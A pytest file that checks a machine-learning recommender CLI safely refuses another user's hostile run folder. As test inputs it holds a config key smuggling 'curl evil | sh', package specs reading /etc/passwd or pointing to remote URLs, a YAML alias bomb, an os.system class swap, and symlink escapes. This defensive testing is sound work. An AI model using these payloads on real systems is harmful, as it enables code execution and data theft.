"""Somebody else's run folder, whatever is in it: no code runs, nothing outside is read or written, and every answer is one line."""

import json
import logging
import os
import pickle
import re
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

import absl.logging
import in_process
import pytest
import runs
from in_process import Done

pytestmark = pytest.mark.faults

COMMANDS = {
    "evaluate": lambda run, tmp: [f"run={run}"],
    "recommend": lambda run, tmp: [f"run={run}", "user=001"],
    "search": lambda run, tmp: [f"run={run}"],
    "export": lambda run, tmp: [f"run={run}", f"to={tmp / 'exported'}"],
    "train": lambda run, tmp: [f"resume={run}"],
}
BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
SECRET = "canary-of-the-environment"


@pytest.fixture(scope="module")
def theirs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the finished run of another user in `run`, and a cache."""
    folder = tmp_path_factory.mktemp("theirs")
    arguments = runs.smoke(folder / "run", "evaluation.resamples=10", "data.users=60", "data.items=40", steps=3)
    home, cache = str(folder / "their home"), str(folder / "cache")
    done = in_process.run("train", *arguments, cwd=folder, XDG_DATA_HOME=home, COLD_JAX_CACHE=cache)
    assert done.code == 0, done.err
    return folder


@pytest.fixture
def run(theirs: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(theirs / "run", tmp_path / "run"))


def outside(tmp_path: Path) -> dict[str, bytes]:
    paths = [path for path in tmp_path.rglob("*") if path.is_file() and not path.is_relative_to(tmp_path / "run")]
    return {str(path): path.read_bytes() for path in paths}


def command(theirs: Path, run: Path, module: str, *more: str) -> Done:
    """Of this user, in a folder beside the run. Nothing but what the command names is written outside of the run, and no process is started."""
    tmp_path = run.parent
    (tmp_path / "home").mkdir(exist_ok=True)
    before = outside(tmp_path)
    done = in_process.run(
        module, *COMMANDS[module](run, tmp_path), *more, cwd=tmp_path / "home",
        COLD_JAX_CACHE=str(theirs / "cache"), XDG_DATA_HOME=str(theirs / "my home"), SECRET=SECRET, PIP_NO_INDEX="1",
    )  # fmt: skip
    written = {path for path, data in outside(tmp_path).items() if before.get(path) != data}
    assert {path for path in written if "/exported/" not in path} == set()
    assert done.started == []
    assert SECRET not in done.out + done.err
    return done


def one_line(done: Done, message: str) -> None:
    """It was refused so, in one line, and nothing beside the run was read for it."""
    assert done.code == 1, done.err
    assert re.search(message, done.said[0]), done.err
    assert len(done.said) == 1, done.err
    assert "Traceback" not in done.err
    assert "canary" not in done.err
    assert [path for path in done.opened if "canary" in str(path)] == []


@pytest.mark.parametrize("module", COMMANDS)
def test_synthetic_data_and_the_tiny_encoder_need_no_word(theirs: Path, run: Path, module: str) -> None:
    done = command(theirs, run, module)
    assert done.code == 0, done.err
    assert not (run / "wandb").exists()


RECBOLE = """data:
  _target_: cold_jax.data.recbole.Recbole
  name: x
  root: {root}
  package: {package}
  sha256: '{sha256}'
  member: x
"""


def with_data(package: str, root: str = "null") -> Callable[[str], str]:
    node = RECBOLE.format(root=root, package=json.dumps(package), sha256="0" * 64)
    return lambda text: re.sub(r"^data:\n(?:  .*\n)*", lambda _: node, text, flags=re.MULTILINE)


@pytest.mark.parametrize(
    ("module", "package"),
    [
        ("evaluate", "./canary"),
        ("recommend", "x @ http://127.0.0.1:9/canary.tar.gz"),
        ("search", "--index-url=http://127.0.0.1:9"),
        ("export", "-r/etc/passwd"),
        ("train", "toy==1.0"),
    ],
)
def test_no_package_is_fetched(theirs: Path, run: Path, module: str, package: str) -> None:
    (run.parent / "home" / "canary").mkdir(parents=True)
    (run.parent / "home" / "canary" / "setup.py").write_text("open('ran', 'w')")
    runs.edit_config(run, with_data(package))
    one_line(command(theirs, run, module), r"not made here.*data\.package=… data\.sha256=… data\.member=…$")


@pytest.fixture(scope="module")
def on_files(theirs: Path) -> Path:
    """A folder with their run on files, `shop`, and an encoder, `phi`, that they name by path."""
    folder, shop = theirs / "on files", theirs / "on files" / "shop"
    shop.mkdir(parents=True)
    clicks = [f"u{u},i{i},{u + i}" for u in range(40) for i in range(30) if (u * i + u) % 3 == 0]
    (shop / "clicks.csv").write_text("\n".join(["user_id,item_id,at", *clicks]))
    (shop / "items.csv").write_text("\n".join(["item_id,title", *(f"i{i},thing {i}" for i in range(30))]))
    own = {"XDG_DATA_HOME": str(theirs / "their home"), "COLD_JAX_CACHE": str(theirs / "cache")}
    done = in_process.run("export", f"run={theirs / 'run'}", f"to={folder / 'phi'}", cwd=folder, **own)
    assert done.code == 0, done.err
    columns = ["data.interactions=clicks.csv", "data.items=items.csv", "data.time=at"]
    arguments = runs.smoke(
        folder / "run", "data=tables", "data.root=shop", *columns, "data.item_texts={line: '{title}'}", "encoder=hub",
        "encoder.id=phi", "encoder.max_length=64", "adapter=frozen", "evaluation.resamples=10", steps=3,
    )  # fmt: skip
    done = in_process.run("train", *arguments, cwd=folder, **own)
    assert done.code == 0, done.err
    return folder


@pytest.mark.parametrize("module", COMMANDS)
def test_no_path_is_read_unless_it_is_given_again(theirs: Path, on_files: Path, tmp_path: Path, module: str) -> None:
    run = Path(shutil.copytree(on_files / "run", tmp_path / "run"))
    more = ["user=u1"] * (module == "recommend") + ["search.title=line"] * (module == "search")
    done = command(theirs, run, module, *more)
    one_line(done, r"not made here.*: data\.root=… data\.interactions=… data\.items=… encoder\.id=…$")
    assert [path for path in done.opened if path.is_relative_to(on_files)] == []
    (tmp_path / "home" / "mine").mkdir()
    for name in ("clicks", "items"):
        shutil.copy(on_files / "shop" / f"{name}.csv", tmp_path / "home" / "mine" / f"my_{name}.csv")
    shutil.copytree(on_files / "phi", tmp_path / "home" / "my_phi")
    given = ["data.root=mine", "data.interactions=my_clicks.csv", "data.items=my_items.csv", "encoder.id=my_phi"]
    for missing in given if module == "evaluate" else ():
        one_line(
            command(theirs, run, module, *more, *(word for word in given if word != missing)), f": {missing.split('=')[0]}=…$"
        )
    done = command(theirs, run, module, *more, *given)
    assert done.code == 0, done.err
    assert [path for path in done.opened if path.is_relative_to(on_files)] == []


@pytest.mark.parametrize(
    ("module", "change", "message"),
    [
        (
            "export",
            lambda text: text.replace("experiment: smoke", 'experiment: "\\x24{oc.env:SECRET}"'),
            "experiment holds an interpolation",
        ),
        (
            "evaluate",
            lambda text: text.replace("experiment: smoke", "experiment: ${oc.env:SECRET}"),
            "experiment holds an interpolation",
        ),
        ("recommend", lambda text: text + '"a\\ncurl evil | sh\\n": 1\n', r"the key 'a\\\\?ncurl evil"),
        ("search", lambda text: f"format: 3\n{BOMB}", "anchor or an alias"),
        ("export", lambda text: text.replace("format: 3\n", ""), "the format of runs has changed"),
        ("train", lambda text: re.sub("cold_jax.splits.entities.\\w+", "cold_jax.data.tables.Tables", text), "is no choice of"),
        ("evaluate", lambda text: re.sub("cold_jax.splits.entities.\\w+", "os.system", text), "is no choice of"),
        ("recommend", lambda text: text + "x" * 300_000, "300,|more than the 262,144"),
        ("search", lambda text: "format: 3\na: " + "[" * 500, "nested more than 64 deep"),
    ],
    ids=["hex", "plain", "newline", "bomb", "old", "class", "code", "size", "depth"],
)
def test_no_config_is_more_than_data(theirs: Path, run: Path, module: str, change: Callable[[str], str], message: str) -> None:
    runs.edit_config(run, change)
    one_line(command(theirs, run, module), message)


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("train", "cold_jax.log"),
        ("evaluate", "metrics.jsonl"),
        ("search", "config.yaml"),
        ("train", "lock"),
        ("evaluate", "checkpoints"),
        ("search", "search_title"),
        ("train", "wandb_id.txt"),
        ("export", "results.json"),
    ],
)
def test_no_link_is_followed(theirs: Path, run: Path, module: str, name: str) -> None:
    target = run.parent / "bashrc"
    if (run / name).is_dir():
        shutil.move(run / name, target)
    else:
        (run / name).unlink(missing_ok=True)
        target.write_text("mine")
    (run / name).symlink_to(target)
    one_line(command(theirs, run, module), f"{name}: a link that leads out of the run's folder")


def test_no_log_is_written_through_a_hard_link(theirs: Path, run: Path) -> None:
    target = run.parent / "bashrc"
    target.write_text("mine")
    (run / "cold_jax.log").unlink(missing_ok=True)
    os.link(target, run / "cold_jax.log")
    (run / "results.json").unlink()
    command(theirs, run, "train")
    assert target.read_text() == "mine"


def test_report_sets_hostile_runs_aside(theirs: Path, run: Path) -> None:
    folder = run.parent
    hostile = {
        "deep": "[" * 50_000, "list": "[]", "nan": "NaN", "bits": (run / "results.json").read_text().replace("0.", "1.", 1), "empty": "",
        "old": '{"test": {}}',
    }  # fmt: skip
    for name, text in hostile.items():
        shutil.copytree(run, folder / "all" / name)
        (folder / "all" / name / "results.json").write_text(text)
    shutil.copytree(run, folder / "all" / "good")
    done = in_process.run("report", str(folder / "all"), cwd=folder)
    assert done.code == 0, done.err
    assert all(f"damaged: {folder / 'all' / name}: " in done.out for name in hostile)
    assert "damaged" not in "".join(line for line in done.out.splitlines() if "/good" in line)


@pytest.mark.parametrize(
    ("module", "name"), [("export", "delta.safetensors"), ("recommend", "head.safetensors"), ("evaluate", "results.json")]
)
def test_a_damaged_file_is_refused_by_name(theirs: Path, run: Path, module: str, name: str) -> None:
    data = bytearray((run / name).read_bytes())
    data[-9] ^= 2
    (run / name).write_bytes(data)
    one_line(command(theirs, run, module), rf"{re.escape(name)}: damaged")


@pytest.mark.parametrize("content", ["", "garbage", "{}"])
def test_a_lock_of_nobody_is_one_line(theirs: Path, run: Path, content: str) -> None:
    (run / "lock").write_text(content)
    one_line(command(theirs, run, "train"), r"/lock: the lock .*; if nobody does, delete the file")


def test_no_logger_of_a_stranger_is_started(theirs: Path, run: Path) -> None:
    (run / "results.json").unlink()
    runs.edit_config(run, lambda text: re.sub(r"^logger:\n(?:  .*\n)*", "logger:\n  wandb:\n    _target_: cold_jax.runs.loggers.wandb.Wandb\n    project: theirs\n    mode: online\n    every: 1\n    init_timeout: 1\n    finish_timeout: 1\n", text, flags=re.MULTILINE))  # fmt: skip
    done = command(theirs, run, "train")
    assert done.code == 0, done.err
    assert not (run / "wandb").exists()
    assert not (run / "wandb_id.txt").exists()


def test_a_command_in_this_process_leaves_its_streams_and_its_log(tmp_path: Path) -> None:
    python = absl.logging.get_absl_handler().python_handler
    before, kept = python.stream, logging.getLogger().handlers[:]
    python.stream = sys.stderr
    try:
        assert in_process.run("evaluate", "run=nowhere", cwd=tmp_path).code == 1
        assert not sys.stderr.closed
    finally:
        python.stream = before
    assert logging.getLogger().handlers == kept


def test_python_s_own_pickles_are_not_read(theirs: Path, run: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*arguments: object, **keywords: object) -> None:
        raise AssertionError("unpickled")

    for name in ("load", "loads", "Unpickler"):
        monkeypatch.setattr(pickle, name, refuse)
    for module in COMMANDS:
        assert command(theirs, run, module).code == 0


assert sys.platform != "win32", "links of POSIX"
